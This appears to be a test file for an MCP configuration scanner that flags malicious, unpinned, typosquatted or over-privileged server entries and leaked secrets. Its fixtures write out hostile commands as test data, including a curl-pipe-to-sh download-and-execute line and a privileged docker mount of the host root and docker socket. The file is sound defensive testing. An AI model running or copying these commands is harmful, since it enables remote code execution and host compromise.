import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMATS } from '../../src/cli/options.ts';
import { runCli, validRun } from '../lib/process.ts';

// No value of a variable, a header, a URL or a secret argument may come out anywhere.
const CANARY = 'Canary4f9a8e7c2b';

const SERVERS: Readonly<Record<string, object>> = {
  clean: { command: 'npx', args: ['-y', 'example-server@1.2.3'], env: { TOKEN: '${TOKEN}' } },
  'known-bad': { command: 'npx', args: ['-y', 'postmark-mcp@1.0.17'] },
  vulnerable: { command: 'npx', args: ['mcp-remote@0.1.15', 'https://mcp.example.com'] },
  unpinned: { command: 'npx', args: ['-y', 'example-server@latest'] },
  'unpinned-source': { command: 'uvx', args: ['--from', 'git+https://github.com/example/server', 'server'] },
  'no-digest': { command: 'docker', args: ['run', '-i', 'example/server:1.0'] },
  'docker-privileged': {
    command: 'docker',
    args: ['run', '--privileged', '-v', '/:/host', '-v', '/var/run/docker.sock:/s', 'example/server:1.0'],
  },
  'no-hashes': { command: 'sh', args: ['-c', 'pip install example==1.0 && python -m example'] },
  'download-exec': { command: 'bash', args: ['-lc', 'curl -s https://example.com/install | sh'] },
  'shell-wrapper': { command: 'sh', args: ['-c', 'node server.js'] },
  unparsed: { command: '${SERVER}' },
  'broad-root': { command: 'npx', args: ['@modelcontextprotocol/server-filesystem@2025.8.21', '/'] },
  typosquat: { command: 'npx', args: ['@modelcontextprotocoI/server-memory@1.0.0'] },
  'auto-approve': { command: 'node', args: ['server.js'], alwaysAllow: ['*'] },
  'secret-literal': {
    command: 'node',
    args: ['server.js', '--api-key', CANARY],
    env: { API_KEY: CANARY, TOKEN: '${TOKEN}' },
  },
  'plain-http': { url: `http://user:${CANARY}@mcp.example.com/mcp?token=${CANARY}` },
  'transport-deprecated': {
    type: 'sse',
    url: 'https://mcp.example.com/sse',
    headers: { Authorization: `Bearer ${CANARY}` },
  },
  'unreadable-entry': { env: { KEY: CANARY } },
};

/** One entry a line, so that an entry is known by its line; a name stands twice at the end. */
const WHOLE = `{ "mcpServers": {\n${[
  ...Object.entries(SERVERS),
  ['duplicate-entry', { command: 'node', args: ['a.js'] }] as const,
  ['duplicate-entry', { command: 'node', args: ['b.js'] }] as const,
]
  .map(([name, server]) => `${JSON.stringify(name)}: ${JSON.stringify(server)}`)
  .join(',\n')}\n} }\n`;

let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'check-config-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

function put(path: string, text: string): string {
  const file = join(folder, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  return file;
}

const checkConfig = (
  args: readonly string[],
  more: { readonly HOME?: string; readonly API_KEY?: string; readonly cwd?: string } = {},
) =>
  runCli(['check-config', ...args], {
    env: {
      HOME: more.HOME ?? join(folder, 'nobody'),
      ...(more.API_KEY === undefined ? {} : { API_KEY: more.API_KEY }),
    },
    cwd: more.cwd ?? folder,
  });

describe('check-config', () => {
  it('finds each defect, at the line of its entry, and is silent about a clean entry', async () => {
    const file = put('whole.json', WHOLE);
    const { code, stdout, stderr } = await checkConfig([file, '--format', 'json', '--pedantic']);
    expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
    const { targets } = validRun(stdout);
    for (const [index, { target, findings }] of targets.entries()) {
      expect(target.source).toBe(`${file}:${index + 2}`);
      for (const { location } of findings) expect(location).toMatchObject({ file, line: index + 2 });
      const rules = findings.map(({ ruleId }) => ruleId);
      if (target.label === 'clean') expect(rules).toEqual([]);
      else expect(rules).toContain(`launch/${target.label}`);
    }
    expect(targets.map(({ target }) => target.label)).toEqual([
      ...Object.keys(SERVERS),
      'duplicate-entry',
      'duplicate-entry',
    ]);
  });

  it('places findings in SARIF where the entry stands', async () => {
    put('.mcp.json', '{ "mcpServers": {\n  "loose": { "command": "npx",\n "args": ["-y", "example-server"] } } }');
    const { stdout } = await checkConfig(['.mcp.json', '--format', 'sarif']);
    const [result, ...others] = JSON.parse(stdout).runs[0].results;
    expect(others).toEqual([]);
    expect(result).toMatchObject({
      ruleId: 'launch/unpinned',
      locations: [
        { physicalLocation: { artifactLocation: { uri: '.mcp.json' }, region: { startLine: 3, startColumn: 17 } } },
      ],
    });
  });

  it.each(FORMATS)('says no value of a variable, a header or a URL: %s', async (format) => {
    const whole = put('whole.json', WHOLE);
    // Cut off in the midst of a value, and with the value in the place of something else.
    const cut = put('cut.json', WHOLE.slice(0, WHOLE.lastIndexOf(CANARY) + 5));
    const wrong = put(
      'wrong.json',
      `{ "mcpServers": { "a": { "command": "x", "env": "${CANARY}", "headers": ["${CANARY}"], "url": ["${CANARY}"] }, "b": "${CANARY}" } }`,
    );
    const bare = put('bare.json', `{ "mcpServers": "${CANARY}", ${CANARY} }`);
    const { code, stdout, stderr } = await checkConfig([whole, cut, wrong, bare, '--format', format, '--verbose']);
    expect(code).toBe(2);
    expect(stdout).toContain('known-bad');
    expect(stdout + stderr).not.toContain(CANARY.slice(0, 5));
  });

  it('vets what can be read of a broken file, and calls the run incomplete', async () => {
    const file = put(
      'broken.json',
      '{ "mcpServers": {\n "loose": { "command": "npx", "args": ["example-server"] }, oops\n',
    );
    const { code, stdout, stderr } = await checkConfig([file, '--format', 'json']);
    const run = validRun(stdout);
    expect({ code, incomplete: run.incomplete }).toEqual({ code: 2, incomplete: true });
    expect(run.targets.flatMap(({ findings }) => findings.map(({ ruleId }) => ruleId))).toContain('launch/unpinned');
    expect(stderr).toContain(`${file}: line 2: `);
  });

  it.each([
    ['no JSON', 'hello', 'no JSON'],
    ['no servers', '{}', 'no server stands in what was read'],
    ['an empty file', '', ''],
  ])('ends with 2 on %s', async (_, text, message) => {
    const { code, stderr } = await checkConfig([put('odd.json', text)]);
    expect(code).toBe(2);
    expect(stderr).toContain(message);
  });

  it('ends with 2 on a file that is not there, a folder, and a client that nobody knows', async () => {
    const missing = await checkConfig(['nothing.json']);
    expect({ ...missing, marker: '' }).toMatchObject({ code: 2, stderr: 'mcp-hallmark: nothing.json: no such file\n' });
    expect((await checkConfig(['.'])).stderr).toContain('is a folder');
    const unknown = await checkConfig(['--client', 'clade-code']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('claude-code');
  });

  it('ends with 0 when a warning may stand', async () => {
    const file = put('loose.json', JSON.stringify({ mcpServers: { loose: SERVERS['unpinned'] } }));
    expect((await checkConfig([file])).code).toBe(1);
    expect((await checkConfig([file, '--fail-on', 'error'])).code).toBe(0);
  });
});

describe('check-config without a file', () => {
  const home = (): string => join(folder, 'home');
  const project = (): string => join(folder, 'project');
  beforeAll(() => {
    put('home/.cursor/mcp.json', JSON.stringify({ mcpServers: { 'in-cursor': SERVERS['clean'] } }));
    put('home/.codex/config.toml', '[mcp_servers.in-codex]\ncommand = "npx"\nargs = ["example-server"]\n');
    put('project/.mcp.json', JSON.stringify({ mcpServers: { 'in-project': SERVERS['clean'] } }));
    put('project/.vscode/mcp.json', JSON.stringify({ servers: { 'in-vscode': SERVERS['clean'] } }));
  });

  it('reads the configurations of the home folder and of the project, and says which', async () => {
    const { code, stdout, stderr } = await checkConfig(['--format', 'json'], { HOME: home(), cwd: project() });
    expect(code).toBe(1);
    const found = validRun(stdout).targets.map(({ target }) => [target.label, target.source]);
    expect(Object.fromEntries(found)).toEqual({
      'in-cursor': '~/.cursor/mcp.json:1',
      'in-codex': '~/.codex/config.toml:1',
      'in-project': '.mcp.json:1',
      'in-vscode': '.vscode/mcp.json:1',
    });
    for (const [, source] of found) expect(stderr).toContain(source?.replace(/:1$/, ''));
  });

  it('reads those of one client', async () => {
    const { stdout } = await checkConfig(['--client', 'codex', '--format', 'json'], { HOME: home(), cwd: project() });
    expect(validRun(stdout).targets.map(({ target }) => target.label)).toEqual(['in-codex']);
  });

  it('lists the servers without a verdict', async () => {
    const { code, stdout, stderr } = await checkConfig(['--list'], { HOME: home(), cwd: project() });
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout).toContain('in-codex  npx example-server\n    codex, user: ~/.codex/config.toml:1\n');
    expect(stdout).toContain('4 servers.\n');
    const json = await checkConfig(['--list', '--format', 'json'], { HOME: home(), cwd: project() });
    expect(JSON.parse(json.stdout)).toContainEqual({
      name: 'in-vscode',
      client: 'vscode',
      scope: 'project',
      file: '.vscode/mcp.json',
      line: 1,
      starts: 'npx example-server@1.2.3',
      disabled: false,
    });
  });

  it('ends with 2 where there is none', async () => {
    const empty = join(folder, 'empty');
    mkdirSync(empty, { recursive: true });
    const { code, stderr } = await checkConfig([], { HOME: empty, cwd: empty });
    expect(code).toBe(2);
    expect(stderr).toContain('no client configuration was found');
  });
});

describe('a release that is known to do harm is not started', () => {
  // What is started in the place of npx leaves a trace.
  const trace = (): string => join(folder, 'started');
  const vet = (args: readonly string[]) =>
    runCli(args, { env: { PATH: `${join(folder, 'bin')}:${process.env['PATH']}` }, cwd: folder });
  beforeAll(() => {
    put('bin/npx', `#!/bin/sh\ntouch ${trace()}\n`);
    chmodSync(join(folder, 'bin/npx'), 0o755);
  });

  it.each([
    ['run', ['run', '--', 'npx', '-y', 'postmark-mcp@1.0.16']],
    ['run, as one of several', ['run', 'npx -y example-server@1.0.0', 'npx -y postmark-mcp']],
    ['capture', ['capture', '-o', '-', '--', 'npx', '-y', 'postmark-mcp@1.0.16']],
  ])('by %s', async (_, args) => {
    const { code, stdout, stderr } = await vet(args);
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toMatch(/^mcp-hallmark: not started: postmark-mcp\S* sends .* \(MAL-2025-47604, https:\S+\)\n$/);
    expect(existsSync(trace())).toBe(false);
  });

  it('while others are', async () => {
    await vet(['run', '--', 'npx', '-y', 'example-server@1.0.0']);
    expect(existsSync(trace())).toBe(true);
  });
});

describe('--fix', () => {
  const text = `{ // mine
  "mcpServers": {
    "a": { "command": "npx", "args": ["-y", "example-server"], "env": { "API_KEY": "${CANARY}" } }
  }
}
`;
  const pin = ['--pin', 'example-server@1.2.3'];

  it('shows what would change, without secrets, and writes nothing', async () => {
    const file = put('fix/.mcp.json', text);
    const shown = await checkConfig(['--fix', ...pin, file], { API_KEY: CANARY });
    expect(shown.code).toBe(1);
    expect(shown.stdout).toContain('line 3: example-server → example-server@1.2.3');
    expect(shown.stdout).toContain('line 3: "API_KEY": … → "${API_KEY}"');
    expect(shown.stdout + shown.stderr).not.toContain(CANARY);
    const asJson = await checkConfig(['--fix', ...pin, '--format', 'json', file], { API_KEY: CANARY });
    expect(JSON.parse(asJson.stdout)).toMatchObject([{ fixes: [{ edit: { line: 3 } }, { edit: { line: 3 } }] }]);
    expect(asJson.stdout).not.toContain(CANARY);
    expect(readFileSync(file, 'utf8')).toBe(text);
  });

  it('writes the changes and vets what the file then holds', async () => {
    const file = put('fix-write/.mcp.json', text);
    const { code, stdout } = await checkConfig(['--fix', '--write', ...pin, file], { API_KEY: CANARY });
    expect([code, stdout]).toEqual([0, expect.stringContaining('No findings')]);
    expect(readFileSync(file, 'utf8')).toBe(
      text.replace('example-server', 'example-server@1.2.3').replace(CANARY, '${API_KEY}'),
    );
  });

  it('says why a secret stays, and which pin is of no use', async () => {
    const file = put('fix-stays/.mcp.json', text);
    const { code, stdout, stderr } = await checkConfig(['--fix', '--pin', 'other@1.0.0', file]);
    expect([code, stdout]).toEqual([0, 'Nothing here can be mended without a decision.\n']);
    expect(stderr).toContain('API_KEY of a is not set to the same value here');
    expect(stderr).toContain('--pin other: no server here starts it');
  });

  it.each([
    ['--write alone', ['--write', 'x.json'], '--write goes with --fix'],
    ['--pin alone', ['--pin', 'a@1.0.0', 'x.json'], '--pin goes with --fix'],
    ['--write without a file', ['--fix', '--write'], 'changes only files that are named'],
    ['--list', ['--fix', '--list'], 'leave out --fix'],
    ['a pin without a version', ['--fix', '--pin', 'a'], 'NAME@VERSION'],
  ])('refuses %s', async (_, args, message) => {
    const { code, stderr } = await checkConfig(args);
    expect([code, stderr]).toEqual([2, expect.stringContaining(message)]);
  });
});
